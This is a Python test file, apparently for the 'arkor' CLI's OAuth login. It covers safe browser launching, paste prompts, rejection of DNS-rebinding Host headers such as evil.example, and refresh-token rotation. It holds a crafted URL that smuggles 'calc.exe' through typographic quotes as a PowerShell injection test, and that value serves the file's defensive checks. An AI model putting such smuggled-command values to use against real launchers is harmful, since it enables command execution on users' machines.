                        "-NoProfile",
                        "-NonInteractive",
                        "-Command",
                        "Start-Process -FilePath $env:ARKOR_SIGN_IN_URL",
                    ],
                )
                self.assertEqual(child_env["ARKOR_SIGN_IN_URL"], self.TRICKY)
                self.assertEqual(child_env["WSLENV"].split(":"), wslenv)

    def test_wsl_prefers_wslview(self) -> None:
        argv, _ = self.command(
            {}, kernel=self.WSL_KERNEL, which=lambda n: "/usr/bin/wslview" if n == "wslview" else None
        )
        self.assertEqual(argv, ["wslview", self.URL])

    def test_no_browser_for_a_url_that_is_not_plain_ascii(self) -> None:
        # A typographic quote from a hostile auth0Domain (PowerShell reads
        # \u2018-\u201b as quotes), a space, a control character: no launcher
        # is given such a URL, on any platform.
        evil = "https://auth\u2019;calc.exe;\u2019x/authorize?client_id=c"
        for url in (evil, "https://tenant/authorize?a=b c", "https://tenant/authorize?a=\n", "https://t\u00e9/"):
            with self.subTest(url=url):
                self.assertIsNone(self.command({}, kernel=self.WSL_KERNEL, url=url))
                self.assertIsNone(self.command({}, kernel=self.WSL_KERNEL, which=lambda n: "/usr/bin/wslview", url=url))
                self.assertIsNone(self.command({"BROWSER": "firefox %s", "DISPLAY": ":0"}, url=url))
                self.assertIsNone(self.command({}, platform="darwin", url=url))
        self.assertIsNotNone(self.command({}, kernel=self.WSL_KERNEL, url=self.TRICKY))

    def recorder(self) -> tuple[str, str]:
        """A directory holding an executable ``record`` that writes each of its
        arguments on a line of ``argv`` beside it; both paths."""
        bindir = tempfile.mkdtemp(prefix="arkor-bin-")
        self.addCleanup(shutil.rmtree, bindir, True)
        marker = os.path.join(bindir, "argv")
        script = os.path.join(bindir, "record")
        with open(script, "w") as f:
            f.write(f'#!/bin/sh\nfor a in "$@"; do printf \'%s\\n\' "$a"; done > "{marker}"\n')
        os.chmod(script, 0o755)
        return script, marker

    def opened(self, url: str, env: dict[str, str], marker: str) -> str:
        """Start the browser for ``url``, wait for the child that runs it, and
        return what the recorder received."""
        arkor_cli._BROWSER_PROCESSES.clear()
        self.assertTrue(arkor_cli._open_browser(url, env))
        (child,) = arkor_cli._BROWSER_PROCESSES
        arkor_cli._BROWSER_PROCESSES.clear()
        self.assertEqual(child.wait(timeout=20), 0)
        with open(marker) as f:
            return f.read()

    @unittest.skipUnless(POSIX, "a shell script stands for the browser")
    def test_browser_with_placeholder_gets_the_url_as_one_argument(self) -> None:
        script, marker = self.recorder()
        received = self.opened(
            self.TRICKY, {"PATH": os.path.dirname(script), "BROWSER": f"{script} --new-tab %s"}, marker
        )
        self.assertEqual(received, f"--new-tab\n{self.TRICKY}\n")

    @unittest.skipUnless(sys.platform.startswith("linux"), "webbrowser's Linux discovery")
    def test_default_browser_through_webbrowser(self) -> None:
        # With a display and no BROWSER, webbrowser (in its child process)
        # finds xdg-open on PATH and hands it the URL.
        script, marker = self.recorder()
        os.rename(script, os.path.join(os.path.dirname(script), "xdg-open"))
        # PATH holds nothing but the fake: no real browser on this machine may answer.
        received = self.opened(self.TRICKY, {"PATH": os.path.dirname(script), "DISPLAY": ":0"}, marker)
        self.assertEqual(received, f"{self.TRICKY}\n")


# A child on a terminal of its own, started as a background job there: this
# wrapper makes the pty on fd 0 its controlling terminal (a new session, so
# the wrapper's group is the foreground one), then runs the command in a
# process group of its own. A read from the terminal would stop the command
# (SIGTTIN): the wrapper then kills it, says so on stderr and exits 99.
LOGIN_WAIT_BACKGROUND = (
    "import fcntl, os, signal, sys, termios\n"
    "os.setsid()\n"
    "fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n"
    "pid = os.fork()\n"
    "if pid == 0:\n"
    "    os.setpgid(0, 0)\n"
    "    os.execv(sys.executable, [sys.executable] + sys.argv[1:])\n"
    "_, status = os.waitpid(pid, os.WUNTRACED)\n"
    "if os.WIFSTOPPED(status):\n"
    "    os.kill(pid, signal.SIGKILL)\n"
    "    os.waitpid(pid, 0)\n"
    "    sys.stderr.write('stopped by signal %d\\n' % os.WSTOPSIG(status))\n"
    "    sys.exit(99)\n"
    "sys.exit(os.WEXITSTATUS(status) if os.WIFEXITED(status) else 128 + os.WTERMSIG(status))\n"
)


class LoginWaitTest(OAuthCase):
    """Waiting for the browser: the bound, the paste prompt, the listener's gate."""

    PASTE = "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:"
    PASTE_AGAIN = (
        "That is not the address the browser ended on (it starts http://127.0.0.1 and holds code= and state=)."
        " Paste it again, or wait for the browser:"
    )
    PASTE_OTHER = (
        "That address belongs to another sign-in (an older tab?), not to this one."
        " Paste the address this sign-in ended on, or wait for the browser:"
    )
    NO_BROWSER = "No browser was opened. Open the URL above in a browser on any device."

    def test_timeout(self) -> None:
        code, out, err, _ = _login_run(self, "--oauth", "--no-browser", "--timeout", "0.2")
        self.assertEqual(code, 1)
        self.assertTrue(out.startswith("Browser: https://"))
        self.assertEqual(err, "Login failed\nTimed out waiting for the browser callback after 0.2 s.\n")
        self.assert_port_closed(self.ports[0])
        self.assertFalse(os.path.exists(self.creds))

    def test_bad_timeouts_are_usage_errors(self) -> None:
        for value, why in (
            ("0", "not a positive number of seconds: '0'"),
            ("-1", "not a positive number of seconds: '-1'"),
            ("soon", "not a positive number of seconds: 'soon'"),
            ("nan", "not a positive number of seconds: 'nan'"),
            ("inf", "more than a week (604800 seconds): 'inf'"),
            ("1e9", "more than a week (604800 seconds): '1e9'"),
        ):
            with self.subTest(value=value):
                # CI: were the value taken, the login would end at once rather than wait.
                code, out, err = self.run_main("login", "--oauth", f"--timeout={value}", CI="1")
                self.assertEqual((code, out), (2, ""))
                self.assertTrue(err.startswith("usage: arkor login "), err)
                self.assertTrue(err.endswith(f"\narkor login: error: argument --timeout: {why}\n"), err)
        self.assertEqual(self.cloud.requests, [])

    @unittest.skipUnless(sys.platform.startswith("linux"), "the Linux rule: no display, no browser")
    def test_no_display_no_browser_and_a_line_says_so(self) -> None:
        # No DISPLAY, WAYLAND_DISPLAY or BROWSER on Linux (and not WSL): the
        # URL is printed, a line says that no browser was opened, and the
        # login waits (here a browser on "another device" comes back).
        if "microsoft" in os.uname().release.lower():
            self.skipTest("WSL opens the Windows browser")
        for flags, env in (([], {}), (["--no-browser"], {"DISPLAY": ":0", "BROWSER": fake_browser()})):
            with self.subTest(flags=flags):
                if os.path.exists(self.creds):
                    os.remove(self.creds)  # the first sign-in: nothing replaced, nothing said of it
                code, out, err, _ = _login_run(self, "--oauth", "--timeout", "5", *flags, browser=browse, **env)
                self.assertEqual((code, err), (0, ""))
                url = _login_browser_url(out)
                # No paste prompt either: stdin is no terminal.
                self.assertEqual(out, f"Browser: {url}\n{self.NO_BROWSER}\nSigned in\n")
        self.assertEqual(arkor_cli._BROWSER_PROCESSES, [])  # nothing was started

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_bad_paste_asks_again(self) -> None:
        # Over SSH: the browser is on another machine; the user pastes.
        def no_state(shown: str) -> str:
            return _login_redirect(_login_browser_url(shown), state=None)

        code, shown, err = self.run_tty(
            ["login", "--oauth", "--no-browser", "--timeout=5"],
            ["hello", no_state, lambda shown: _login_redirect(_login_browser_url(shown))],
            NO_COLOR="1",
        )
        self.assertEqual((code, err), (0, ""))
        url = _login_browser_url(shown)
        self.assertTrue(
            shown.startswith(f"Browser: {url}\n{self.NO_BROWSER}\n{self.PASTE}\nhello\n{self.PASTE_AGAIN}\n"), shown
        )
        self.assertEqual(shown.count(self.PASTE_AGAIN), 2)
        self.assertTrue(shown.endswith("\nSigned in\n"), shown)
        self.assertEqual(self.read_creds()["mode"], "oauth")
        # The code without its state was never exchanged; the real paste was, once.
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_pasted_address_of_another_sign_in_asks_again(self) -> None:
        # The address an older tab ended on: another sign-in's state. It
        # does not end this one (nothing is exchanged); an error callback does.
        old = "http://127.0.0.1:1/callback?code=old-code&state=old-state"
        denied = "http://127.0.0.1:1/callback?error=access_denied&state=old-state"
        code, shown, err = self.run_tty(
            ["login", "--oauth", "--no-browser", "--timeout=5"], [old, denied], NO_COLOR="1"
        )
        self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied\n"))
        self.assertTrue(shown.endswith(f"{self.PASTE}\n{old}\n{self.PASTE_OTHER}\n{denied}\n"), shown)
        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
        self.assertFalse(os.path.exists(self.creds))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_pasted_line_that_is_no_callback_address_does_not_end_the_login(self) -> None:
        # SPEC 8: a pasted line that is not a callback URL is refused and the
        # prompt asks again; only a callback (of this sign-in, or an error
        # callback) ends the login. A bare query, or another page's address
        # that happens to hold error=, is no callback (the listener would
        # answer its path 404 and go on waiting).
        for junk in ("error=access_denied", "https://example.com/help?topic=login&error=none"):
            with self.subTest(junk=junk):
                if os.path.exists(self.creds):
                    os.remove(self.creds)
                code, shown, err = self.run_tty(
                    ["login", "--oauth", "--no-browser", "--timeout=5"],
                    [junk, lambda shown: _login_redirect(_login_browser_url(shown))],
                    NO_COLOR="1",
                )
                self.assertEqual((code, err), (0, ""))
                self.assertIn(f"{self.PASTE}\n{junk}\n{self.PASTE_AGAIN}\n", shown)
                self.assertTrue(shown.endswith("\nSigned in\n"), shown)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_a_pasted_error_callback_ends_the_login(self) -> None:
        # Checked like a callback (a forged state: see OAuthLoginTest).
        pasted = "http://127.0.0.1:1/callback?error=access_denied&error_description=No%20thanks"
        code, shown, err = self.run_tty(["login", "--oauth", "--no-browser", "--timeout=5"], [pasted], NO_COLOR="1")
        self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied. No thanks\n"))
        self.assertTrue(shown.endswith(f"{self.PASTE}\n{pasted}\n"), shown)
        self.assertEqual(self.auth0.requests, [])
        self.assertFalse(os.path.exists(self.creds))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_paste_while_stdout_goes_through_tee(self) -> None:
        # `arkor login --oauth --no-browser | tee log` over SSH: stdin is the
        # terminal, stdout a pipe; pasting must still work.
        import pty

        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, MODULE, "login", "--oauth", "--no-browser", "--timeout=5"],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(),
        )
        os.close(slave)
        try:
            assert proc.stdout is not None
            # Raw reads with a deadline: a missing prompt must fail, not hang.
            seen = b""
            deadline = time.monotonic() + 20
            while seen.count(b"\n") < 3 and time.monotonic() < deadline:
                ready, _, _ = select.select([proc.stdout], [], [], 0.1)
                if ready:
                    seen += os.read(proc.stdout.fileno(), 4096)
            browser_line, no_browser, prompt = (seen.decode().split("\n") + ["", "", ""])[:3]
            self.assertTrue(browser_line.startswith("Browser: https://"), seen)
            self.assertEqual((no_browser, prompt), (self.NO_BROWSER, self.PASTE))
            os.write(master, _login_redirect(_login_browser_url(browser_line)).encode() + b"\n")
            out, err = proc.communicate(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
            os.close(master)
        self._record(out, err)
        self.assertEqual((proc.returncode, out, err), (0, "Signed in\n", ""))

    @unittest.skipUnless(POSIX and hasattr(__import__("termios"), "TIOCSCTTY"), "needs a pty to be a terminal on")
    def test_no_paste_prompt_from_a_background_job(self) -> None:
        # `arkor login --oauth --no-browser &`: stdin is the terminal, but
        # the shell has another job in the foreground. Reading it would stop
        # the login; it waits for the browser alone.
        import pty

        master, slave = pty.openpty()
        self.addCleanup(os.close, master)
        argv = ["login", "--oauth", "--no-browser", "--timeout=10"]
        proc = subprocess.Popen(
            [sys.executable, "-I", "-S", "-c", LOGIN_WAIT_BACKGROUND, MODULE, *argv],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=self.env(NO_COLOR="1"),
            close_fds=True,
        )
        os.close(slave)
        # (Killing the wrapper orphans the login's group; its --timeout ends it in any case.)
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        assert proc.stdout is not None
        seen = b""
        deadline = time.monotonic() + 20  # a guard: only a broken product gets near it
        while seen.count(b"\n") < 2 and time.monotonic() < deadline:
            ready, _, _ = select.select([proc.stdout], [], [], 0.1)
            if ready:
                chunk = os.read(proc.stdout.fileno(), 4096)
                if not chunk:
                    break
                seen += chunk
        browser_line, _, rest = seen.decode().partition("\n")
        self.assertTrue(browser_line.startswith("Browser: https://"), seen)
        # Where Auth0 sends the browser, called as the browser would.
        location = urlsplit(_login_redirect(_login_browser_url(browser_line)))
        with contextlib.suppress(OSError):  # a login stopped by SIGTTIN is killed: refused
            self.callback(self.ports[0], f"{location.path}?{location.query}")
        out, err = proc.communicate(timeout=30)
        self._record(out.decode(), err.decode())
        self.assertEqual((proc.returncode, err.decode()), (0, ""))
        self.assertEqual(rest + out.decode(), f"{self.NO_BROWSER}\nSigned in\n")
        self.assertEqual(self.read_creds()["mode"], "oauth")

    def test_foreign_host_header_is_refused_without_ending_the_login(self) -> None:
        port = self.ports[0]

        def rebound(url: str) -> Any:
            state = _login_query(url)["state"]
            # A page on evil.example whose name was rebound to 127.0.0.1 (DNS rebinding).
            for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.evil:{port}"):
                status, headers, body = self.callback(port, f"/callback?code=x&state={state}", host=host)
                self.assertEqual((status, body), (400, b"Unexpected Host header"), host)
                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
            self.assertEqual(self.auth0.requests, [])
            # localhost:<port> is one of ours.
            location = urlsplit(_login_redirect(url))
            return browse(f"http://localhost:{port}/callback?{location.query}")

        code, out, err, (status, _, _) = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=rebound)
        self.assertEqual((code, err, status), (0, "", 200))
        self.assertTrue(out.endswith("\nSigned in\n"), out)

    def test_only_the_first_callback_counts(self) -> None:
        # Several callbacks race in: one decides, the others are turned away.
        import threading

        def many(url: str) -> list[int]:
            good = urlsplit(_login_redirect(url)).query
            results: list[int] = []

            def call() -> None:
                try:
                    results.append(self.callback(self.ports[0], "/callback?" + good)[0])
                except OSError:
                    results.append(-1)  # the listener had already closed

            threads = [threading.Thread(target=call) for _ in range(4)]
            for t in threads:
                t.start()
            for t in threads:
                t.join(20)
            return results

        code, out, err, results = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=many)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        self.assertEqual(results.count(200), 1, results)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)


class ChromiumTest(OAuthCase):
    """The whole browser leg in a real headless Chromium."""

    CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")

    def test_chromium_follows_the_redirect_to_the_listener(self) -> None:
        if not self.CHROMIUM:
            if os.environ.get("ARKOR_TEST_REQUIRE_CHROMIUM"):  # set by .ci/run, which installs it
                self.fail("Chromium is required here but not installed")
            self.skipTest("Chromium is not installed (Debian: apt-get install chromium)")
        profile = tempfile.mkdtemp(prefix="arkor-chromium-")
        self.addCleanup(shutil.rmtree, profile, True)
        flags = [
            "--headless",
            "--no-sandbox",  # as root here
            "--disable-gpu",
            f"--user-data-dir={profile}",
            "--disable-background-networking",  # there is no outside network
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--disable-quic",
            "--ignore-certificate-errors",  # the fake Auth0's test CA is not in Chromium's store
            "--virtual-time-budget=10000",
            "--dump-dom",
        ]
        assert self.CHROMIUM is not None
        chromium = self.CHROMIUM

        def run_chromium(url: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [chromium, *flags, url],
                capture_output=True,
                text=True,
                timeout=120,
                stdin=subprocess.DEVNULL,
                check=False,
            )

        # The login in this process, waiting; Chromium is the browser.
        code, out, err, browser = _login_run(self, "--oauth", "--no-browser", "--timeout", "120", browser=run_chromium)
        self.assertEqual((code, err), (0, ""), browser.stderr[-2000:])
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        self.assertIn("Signed in to Arkor", browser.stdout)
        self.assertEqual(self.read_creds()["mode"], "oauth")
        (authorize,) = self.auth0.seen("GET", "/authorize")
        self.assertIn("Chrome", authorize.headers.get("user-agent", ""))
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"), out)


# ---------------------------------------------------------------------------
# Signed-in requests and the Python API
# ---------------------------------------------------------------------------


def refresh_holders(pid: int, lock: str) -> bool:
    """Whether process ``pid`` has ``lock`` open (Linux /proc): a refresh
    opens the lock file just before it waits for the lock."""
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return False
    for name in names:
        try:
            if os.readlink(f"/proc/{pid}/fd/{name}") == lock:
                return True
        except OSError:  # closed meanwhile
            continue
    return False


class RefreshTest(OAuthCase):
    """An OAuth session kept alive with its refresh token."""

    def routes(self) -> list[str]:
        both = [(r, "auth0") for r in self.auth0.requests] + [(r, "cloud") for r in self.cloud.requests]
        return [f"{r.method} {r.path}" for r, _ in sorted(both, key=lambda x: x[0].when)]

    def clear_requests(self) -> None:
        self.auth0.requests.clear()
        self.cloud.requests.clear()

    def assert_identity(self, out: str) -> None:
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)

    def refresh_form(self, n: int = -1) -> dict[str, str]:
        """The form of the ``n``-th refresh Auth0 received."""
        seen = self.auth0.seen("POST", "/oauth/token")[n]
        self.assertEqual(seen.headers["content-type"], "application/x-www-form-urlencoded")
        return {k: v[0] for k, v in parse_qs(seen.body.decode()).items()}

    def assert_expires_in_a_day(self, expires_at: Any, before: float, after: float) -> None:
        """``expiresAt`` is "now + 86400" for a now between two clock reads
        that bracket the run (never one read compared with another)."""
        self.assertIsInstance(expires_at, int)
        self.assertGreaterEqual(expires_at, int(before) + 86400)
        self.assertLessEqual(expires_at, after + 86400)

    def test_near_expiry_refreshes_before_the_request(self) -> None:
        old = self.sign_in_oauth(expires_in=30)
        before = time.time()
        code, out, err = self.run_main("whoami")
        after = time.time()
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
        self.assertEqual(
            self.refresh_form(),
            {"grant_type": "refresh_token", "client_id": self.auth0.client_id, "refresh_token": old["refreshToken"]},
        )
        new = self.read_creds()
        fresh = self.auth0.issued[-1]["access_token"]
        self.assertEqual(self.cloud.seen("GET", "/v1/me")[0].headers["authorization"], f"Bearer {fresh}")
        self.assert_expires_in_a_day(new["expiresAt"], before, after)
        # No rotation: the same refresh token stays, and nothing else changes.
        self.assertEqual(new, {**old, "accessToken": fresh, "expiresAt": new["expiresAt"]})
        if POSIX:
            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(self.leftovers(), [])

    def test_rotated_refresh_token_is_stored(self) -> None:
        self.auth0.rotate = True
        old = self.sign_in_oauth(expires_in=-100)
        code, _out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        stored = self.read_creds()["refreshToken"]
        self.assertNotEqual(stored, old["refreshToken"])
        self.assertEqual(stored, self.auth0.newest_refresh_token())
        self.assertTrue(self.auth0.accepts(stored))
        self.assertFalse(self.auth0.accepts(old["refreshToken"]))

    def test_a_rotation_answered_201_is_stored(self) -> None:
        self.auth0.rotate = True

        def created(seen: Any) -> Answer:
            answer = self.auth0._default(seen)
            return Answer(201, json.loads(answer.body)) if answer.status == 200 else answer

        self.auth0.script("POST", "/oauth/token", created)
        old = self.sign_in_oauth(expires_in=-100)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        stored = self.read_creds()
        newest = self.auth0.issued[-1]
        self.assertEqual(
            (stored["accessToken"], stored["refreshToken"]), (newest["access_token"], newest["refresh_token"])
        )
        self.assertNotEqual(stored["refreshToken"], old["refreshToken"])
        self.assertTrue(self.auth0.accepts(stored["refreshToken"]))

    def test_refresh_keeps_the_file_as_it_was(self) -> None:
        # Only accessToken, expiresAt and a rotated refreshToken change: the
        # mode tag of either era, fields this CLI does not know, and an absent
        # arkorCloudApiUrl (files of older Node releases) stay as they were.
        extra = {"nodeCliField": {"nested": [1, "x", None]}, "email": "ada@example.com", "zz": None}
        for mode, with_url, rotate in (
            ("oauth", True, False),
            ("auth0", False, True),
            ("oauth", False, True),
            ("auth0", True, False),
        ):
            with self.subTest(mode=mode, with_url=with_url, rotate=rotate):
                self.auth0.rotate = rotate
                data = self.sign_in_oauth(expires_in=-100, mode=mode)
                old = {**data, **extra}
                if not with_url:
                    del old["arkorCloudApiUrl"]  # the cloud-api comes from ARKOR_CLOUD_API_URL
                self.write_creds(old)
                before = time.time()
                code, out, err = self.run_main("whoami")
                after = time.time()
                self.assertEqual((code, err), (0, ""))
                self.assert_identity(out)
                new = self.read_creds()
                self.assert_expires_in_a_day(new["expiresAt"], before, after)
                newest = self.auth0.issued[-1]
                expected = {**old, "accessToken": newest["access_token"], "expiresAt": new["expiresAt"]}
                if rotate:
                    expected["refreshToken"] = newest["refresh_token"]
                self.assertEqual(new, expected)
                self.assertEqual("arkorCloudApiUrl" in new, with_url)

    def test_rotated_refresh_token_survives_a_malformed_answer(self) -> None:
        # Auth0 rotates (the refresh token sent is spent) but the rest of its
        # answer is wrong. The new refresh token must be stored anyway, with
        # the access token marked expired, and used by the next command: the
        # spent one would be refused (and, at Auth0, end the whole session).
        self.auth0.rotate = True
        bad_token = "at-not a token"
        self.secrets.append(bad_token)
        cases: list[tuple[str, Callable[[dict[str, Any]], object], str]] = [
            ("expires_in as a string", lambda a: a.update(expires_in="3600"), "expires_in is not valid"),
            ("no access token", lambda a: a.pop("access_token"), "missing access_token"),
            ("a garbage access token", lambda a: a.update(access_token=bad_token), "access_token is not valid"),
            ("expires_in out of range", lambda a: a.update(expires_in=10**10), "expires_in is not valid"),
        ]
        for name, spoil, what in cases:
            for after_401 in (False, True):
                with self.subTest(name, after_401=after_401):

                    def malformed(seen: Any, spoil: Callable[[dict[str, Any]], object] = spoil) -> Answer:
                        answer = self.auth0._default(seen)  # a real rotation: the old refresh token is spent
                        tokens = json.loads(answer.body)
                        spoil(tokens)
                        return Answer(answer.status, tokens)

                    self.auth0.script("POST", "/oauth/token", malformed, lambda seen: self.auth0._default(seen))
                    self.clear_requests()
                    old = self.sign_in_oauth(expires_in=3600 if after_401 else -100)
                    if after_401:
                        del self.cloud.tokens[old["accessToken"]]
                    code, out, err = self.run_main("whoami")
                    self.assertEqual(code, 0)
                    if after_401:  # the access token is unchanged: the request is not sent again
                        self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
                        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token"])
                    else:  # the stored access token is still taken
                        self.assert_identity(out)
                        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
                    self.assertEqual(
                        err,
                        "Auth0 sent a new refresh token in a malformed answer (Unexpected answer from POST"
                        f" https://{self.auth0.domain}/oauth/token (200): {what}.); it is stored,"
                        " and the access token will be renewed at the next command.\n",
                    )
                    rotated = self.auth0.newest_refresh_token()
                    self.assertNotEqual(rotated, old["refreshToken"])
                    self.assertEqual(self.read_creds(), {**old, "refreshToken": rotated, "expiresAt": 0})
                    self.assertFalse(self.auth0.accepts(old["refreshToken"]))

                    # The next command renews at once, with the new refresh token.
                    self.clear_requests()
                    before = time.time()
                    code, out, err = self.run_main("whoami")
                    after = time.time()
                    self.assertEqual((code, err), (0, ""))
                    self.assert_identity(out)
                    self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
                    self.assertEqual(self.refresh_form()["refresh_token"], rotated)
                    newest = self.auth0.issued[-1]
                    stored = self.read_creds()
                    self.assert_expires_in_a_day(stored["expiresAt"], before, after)
                    self.assertEqual(
                        stored,
                        {
                            **old,
                            "accessToken": newest["access_token"],
                            "refreshToken": newest["refresh_token"],
                            "expiresAt": stored["expiresAt"],
                        },
                    )

    def assert_rotation_kept_in_a_large_node_file(self, raw: bytes) -> None:
        """A whoami that renews a file another tool wrote, ``raw`` (within the
        size limit), with rotation: the rotated refresh token must reach the
        file, the fields kept from the other tool kept, the file still one the
        next read takes (SPEC 3, 8)."""
        self.assertLessEqual(len(raw), 1024 * 1024)
        old = json.loads(raw)
        self.write_creds(raw)
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        self.assertLessEqual(len(self.creds_bytes()), 1024 * 1024)
        stored = self.read_creds()
        rotated = self.auth0.newest_refresh_token()
        self.assertNotEqual(rotated, old["refreshToken"])
        self.assertFalse(self.auth0.accepts(old["refreshToken"]))
        self.assertEqual(stored["refreshToken"], rotated)  # else the session is lost at the next command
        self.assertEqual(
            stored,
            {**old, "accessToken": stored["accessToken"], "refreshToken": rotated, "expiresAt": stored["expiresAt"]},
        )
        self.assertEqual(self.leftovers(), [])
        # The next command renews with the rotated token, not the spent one.
        self.assertEqual(self.run_main("whoami", ARKOR_DEBUG=None)[0], 0)

    def test_a_file_that_cannot_be_written_back_spends_no_refresh_token(self) -> None:
        # A tool writing JSON.stringify(data) (compact) puts 1e-7 as "1e-7";
        # Python writes it back as "1e-07", a byte more each: a file near the
        # limit cannot be written back. Its refresh token is then not spent:
        # with rotation, the successor could not be stored, and the session
        # would be lost at the next command.
        self.auth0.rotate = True
        data = self.sign_in_oauth(expires_in=-100)
        head = json.dumps(data, separators=(",", ":"))[:-1] + ',"studioSamples":['
        room = 1024 * 1024 - len(head) - len("]}") - 2000
        raw = (head + ",".join(["1e-7"] * (room // 5)) + "]}").encode()
        self.assertLessEqual(len(raw), 1024 * 1024)
        self.write_creds(raw)
        code, out, err = self.run_main("whoami")
        self.assertEqual(
            err,
            f"Could not renew the access token (Could not write {self.creds}: the credentials would be larger"
            " than 1 MiB.); trying the stored one.\n",
        )
        self.assertEqual(self.auth0.seen("POST"), [])
        self.assertTrue(self.auth0.accepts(data["refreshToken"]))
        self.assertEqual(self.creds_bytes(), raw)
        self.assertEqual(code, 0)
        self.assert_identity(out)  # with the stored token, which this fake still takes

    def test_rotation_kept_when_a_large_node_file_holds_a_lone_surrogate(self) -> None:
        # The Node CLI writes JSON.stringify(data, null, 2): non-ASCII raw, a
        # lone surrogate as "\ud800" (ES2019). Indented with ensure_ascii the
        # file is over the limit; the compact fallback (ensure_ascii=False)
        # cannot encode the surrogate: UnicodeEncodeError, an internal error,
        # and the rotated refresh token never stored.
        self.auth0.rotate = True
        data = self.sign_in_oauth(expires_in=-100)
        data["studioNotes"] = "\u00e9" * 300_000 + "\ud800"
        raw = json.dumps(data, indent=2, ensure_ascii=False).replace("\ud800", "\\ud800").encode("utf-8")
        self.assert_rotation_kept_in_a_large_node_file(raw)

    def test_malformed_answer_without_a_new_refresh_token_changes_nothing(self) -> None:
        # Nothing new to keep: the file stays, and the command goes ahead.
        self.sign_in_oauth(expires_in=30)
        before = self.creds_bytes()
        for answer, what in (
            (Answer(200, {"expires_in": 60}), "missing access_token"),
            (Answer(200, {"access_token": "at-1", "refresh_token": "rt bad"}), "refresh_token is not valid"),
            (Answer(200, body=b"<html>rt-x</html>"), "not a JSON object"),
        ):
            with self.subTest(what=what):
                self.auth0.script("POST", "/oauth/token", answer)
                code, out, err = self.run_main("whoami")
                self.assertEqual(code, 0)
                self.assert_identity(out)
                self.assertEqual(
                    err,
                    "Could not renew the access token (Unexpected answer from POST"
                    f" https://{self.auth0.domain}/oauth/token (200): {what}.); trying the stored one.\n",
                )
                self.assertEqual(self.creds_bytes(), before)

    def test_401_refreshes_and_retries_once(self) -> None:
        old = self.sign_in_oauth(expires_in=3600)
        del self.cloud.tokens[old["accessToken"]]  # the cloud-api stopped taking it
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, err), (0, ""))
        self.assert_identity(out)
        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
        self.assertEqual(self.read_creds()["accessToken"], self.auth0.issued[-1]["access_token"])

    def test_401_after_a_refresh_is_not_retried_again(self) -> None:
        self.sign_in_oauth(expires_in=3600)
        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "nope"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ""))
        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])

    def test_refused_refresh_falls_back_and_says_how_to_sign_in(self) -> None:
        for expires_in in (-100, 3600):  # before the request, and after a 401
            with self.subTest(expires_in=expires_in):
                self.clear_requests()
                old = self.sign_in_oauth(expires_in=expires_in)
                self.auth0.refresh_tokens[old["refreshToken"]]["revoked"] = True
                del self.cloud.tokens[old["accessToken"]]
                before = self.creds_bytes()
                code, out, err = self.run_main("whoami")
                self.assertEqual(
                    (code, out, err),
                    (
                        0,
                        "Failed to fetch /v1/me (401). Token may be expired.\n",
                        (
                            "The session could not be renewed (Auth0: invalid_grant)."
                            " Sign in again with `arkor login --oauth`.\n"
                        ),
                    ),
                )
                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
                self.assertEqual(self.creds_bytes(), before)

    def test_unreachable_refresh_goes_ahead_with_the_stored_token(self) -> None:
        self.sign_in_oauth(expires_in=30)
        before = self.creds_bytes()
        self.auth0.script("POST", "/oauth/token", Answer(503, body=b"down for maintenance"))
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assert_identity(out)
        self.assertEqual(
            err,
            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 503);"
            " trying the stored one.\n",
        )
        self.assertEqual(self.creds_bytes(), before)
